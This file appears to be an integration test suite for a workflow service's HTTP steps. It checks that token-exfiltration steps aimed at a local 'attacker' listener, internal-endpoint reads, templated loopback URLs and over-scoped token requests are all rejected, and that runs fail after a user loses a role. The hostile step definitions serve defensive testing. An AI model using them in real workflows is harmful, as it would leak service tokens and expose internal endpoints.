// flow-service's http steps against a real oauth-service: an author with flow:write cannot make flow-service
// carry its machine token (or read internal endpoints) to a host of their choosing, a token goes only to a
// registered resource server with at most the author's scopes (and, for a run a user started, the user's:
// ADR 0036), and a run whose author or starter lost the authority fails instead of acting on it.
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describeEachDialect } from '@platform/db/testing';
import type { SpawnedService } from '@platform/testing';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type FlowPlatform, startFlowPlatform } from '../flow/platform.ts';
import { type Json, json } from '../json.ts';
import { adminAccessToken, adminFetch, codeFlow, type OAuthServer, portalConfig } from '../oauth/harness.ts';

const AUTHOR = { login: 'author1', password: 'author-passphrase-42' };

/** An attacker's listener on another loopback address: records every request it receives. */
async function startListener(): Promise<{
  url: string;
  seen: IncomingHttpHeaders[];
  close(): Promise<void>;
}> {
  const seen: IncomingHttpHeaders[] = [];
  const server: Server = createServer((req, res) => {
    seen.push(req.headers);
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end('{"stolen":true}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.9', resolve));
  return {
    url: `http://127.0.0.9:${(server.address() as AddressInfo).port}`,
    seen,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

describeEachDialect('flow-service http steps: egress and authority', (temp) => {
  let platform: FlowPlatform;
  let server: OAuthServer;
  let testService: SpawnedService;
  let flow: SpawnedService;
  let listener: Awaited<ReturnType<typeof startListener>>;
  let adminToken: string;
  let authorId: string;
  let authorToken: string;
  const roleIds = new Map<string, string>();

  const admin = (path: string, method = 'GET', body?: unknown) =>
    adminFetch(server, adminToken, path, { method, body });
  const api = (path: string, method = 'GET', body?: unknown, headers: Record<string, string> = {}) =>
    fetch(`${flow.url}/flow/api/v1${path}`, {
      method,
      headers: {
        authorization: `Bearer ${authorToken}`,
        ...(body ? { 'content-type': 'application/json' } : {}),
        ...headers,
      },
      ...(body ? { body: JSON.stringify(body) } : {}),
    });
  const waitForRun = async (id: string): Promise<Json> => {
    for (let i = 0; i < 300; i += 1) {
      const run = await json(api(`/runs/${id}`));
      if (!['pending', 'running', 'waiting'].includes(run.state)) return run;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    throw new Error(`run ${id} did not finish`);
  };
  /** The author signs in to the console with flow:* scopes for flow-service (only flow scopes in the token). */
  const signInAuthor = async () => {
    const scope = 'openid flow:read flow:write flow:run';
    const tokens = await codeFlow(
      server,
      await portalConfig(server),
      { scope, resource: `${server.issuer}/flow` },
      AUTHOR,
    );
    return tokens.access_token;
  };

  beforeAll(async () => {
    platform = await startFlowPlatform(temp());
    ({ server, testService, flow } = platform);
    listener = await startListener();

    adminToken = await adminAccessToken(server, await portalConfig(server));
    const roles = await json(admin('/roles'));
    for (const role of roles.items ?? roles) roleIds.set(role.name, role.id);
    const created = await admin('/users', 'POST', {
      username: AUTHOR.login,
      email: 'author1@example.com',
      password: AUTHOR.password,
    });
    expect(created.status).toBe(201);
    authorId = (await json(created)).id;
    // operator: flow:*, test:*, kline:* (kline:write included).
    expect((await admin(`/users/${authorId}/roles/${roleIds.get('operator')}`, 'PUT')).status).toBe(204);
    authorToken = await signInAuthor();
  });
  afterAll(async () => {
    await platform?.stop();
    await listener?.close();
  });

  it('refuses at save the exfiltration step (another loopback host, kline:write): nothing reaches the listener', async () => {
    const saved = await api('/definitions', 'POST', {
      id: 'steal',
      steps: [
        { id: 'prepare', type: 'noop' },
        {
          id: 'exfil',
          type: 'http',
          dependsOn: ['prepare'],
          input: { url: `${listener.url}/kline/steal`, auth: { scope: 'kline:write' } },
        },
      ],
    });
    if (saved.status === 201) {
      // A save that goes through is run, so the listener shows whether flow-service's token reached it.
      const started = await json(api('/definitions/steal/runs', 'POST', { input: {} }));
      await waitForRun(started.id);
    }
    expect(saved.status).toBe(400);
    expect(saved.headers.get('content-type')).toMatch(/application\/problem\+json/);
    const problem = await json(saved);
    expect(problem.detail).toMatch(/step "exfil"/);
    expect(problem.detail).toMatch(/input\.url/);
    expect(problem.errors[0].path).toBe('/steps/1/input/url');
    expect(listener.seen).toEqual([]);
  });

  it('refuses at save a step reading an internal endpoint (auth: none, oauth-service /api/metrics)', async () => {
    const saved = await api('/definitions', 'POST', {
      id: 'peek',
      steps: [{ id: 'metrics', type: 'http', input: { url: `${server.issuer}/api/metrics`, auth: 'none' } }],
    });
    if (saved.status === 201) {
      const started = await json(api('/definitions/peek/runs', 'POST', { input: {} }));
      const run = await waitForRun(started.id);
      // A save that goes through is run: internal metrics in its output would be readable with flow:read.
      expect(/process_cpu/.test(JSON.stringify(run.output)), 'metrics leaked into the run output').toBe(
        false,
      );
    }
    expect(saved.status).toBe(400);
    const problem = await json(saved);
    expect(problem.detail).toMatch(/step "metrics".*input\.url/);
  });

  it('fails at run time a templated URL that points at loopback; nothing is sent', async () => {
    const saved = await api('/definitions', 'POST', {
      id: 'fetch-any',
      steps: [{ id: 'get', type: 'http', input: { url: '{{ input.url }}', auth: 'none' } }],
    });
    expect(saved.status).toBe(201);
    const started = await json(
      api('/definitions/fetch-any/runs', 'POST', { input: { url: `${listener.url}/internal` } }),
    );
    const run = await waitForRun(started.id);
    expect(run.state).toBe('failed');
    expect(run.steps[0].error).toMatch(/not an allowed (origin|target)/);
    expect(listener.seen).toEqual([]);
  });

  it('refuses at save a step asking for a scope its author does not hold', async () => {
    const saved = await api('/definitions', 'POST', {
      id: 'too-much',
      steps: [
        {
          id: 'ingest',
          type: 'http',
          input: { url: `${server.issuer}/kline/api/v1/trades`, auth: { scope: 'admin:write' } },
        },
      ],
    });
    expect(saved.status).toBe(400);
    expect((await json(saved)).detail).toMatch(/step "ingest".*input\.auth\.scope/);
  });

  let legitRun: string;
  it('runs a legitimate step against a registered resource server with a token bounded by the author', async () => {
    const saved = await api('/definitions', 'POST', {
      id: 'legit',
      steps: [
        {
          id: 'echo',
          type: 'http',
          input: {
            method: 'POST',
            url: `${testService.url}/test/api/v1/echo`,
            body: { n: 1 },
            auth: { scope: 'test:write' },
          },
        },
      ],
    });
    expect(saved.status).toBe(201);
    const started = await json(api('/definitions/legit/runs', 'POST', { input: {} }));
    const run = await waitForRun(started.id);
    expect(run.steps[0].error).toBeNull();
    expect(run.state).toBe('succeeded');
    // test-service verified the token's audience (PUBLIC_URL/test) before it answered; the run acts for the
    // user who started it, through flow-service.
    expect(run.output.echo.body.token).toEqual({
      sub: authorId,
      client_id: 'flow-service',
      scope: 'test:write',
      act: { sub: 'flow-service' },
    });
    legitRun = started.id;
  });

  it('fails a rerun and a scheduled run once the author (and rerunner) lost the scope', async () => {
    expect((await admin(`/users/${authorId}/roles/${roleIds.get('operator')}`, 'DELETE')).status).toBe(204);
    expect((await admin(`/users/${authorId}/roles/${roleIds.get('user')}`, 'PUT')).status).toBe(204);
    // The author's flow token still carries flow:run until it expires: the rerun is accepted, then fails,
    // since it acts for its rerunner, whose roles no longer grant test:write (oauth-service revoked the
    // grant behind their token, or refuses the scope).
    const rerun = await api(`/runs/${legitRun}/rerun`, 'POST');
    expect(rerun.status).toBe(201);
    const run = await waitForRun((await json(rerun)).id);
    expect(run.state).toBe('failed');
    expect(run.steps[0].error).toMatch(
      /was not exchanged .*: token exchange refused: invalid_(request \(subject_token is not an active access token\)|scope)/,
    );

    const schedule = await api('/schedules', 'POST', { definition: 'legit', cron: '* * * * * *' });
    expect(schedule.status).toBe(201);
    const scheduleId = (await json(schedule)).id;
    let fired: Json;
    for (let i = 0; i < 100 && !fired; i += 1) {
      await new Promise((resolve) => setTimeout(resolve, 100));
      const runs = await json(api('/runs?definition=legit&limit=20'));
      fired = (runs.runs ?? runs.items ?? []).find((r: Json) => r.trigger === 'schedule');
    }
    await api(`/schedules/${scheduleId}`, 'DELETE');
    expect(fired).toBeDefined();
    const scheduled = await waitForRun(fired.id);
    expect(scheduled.state).toBe('failed');
    expect(scheduled.steps[0].error).toMatch(/author .* no longer holds test:write/);
  });
});
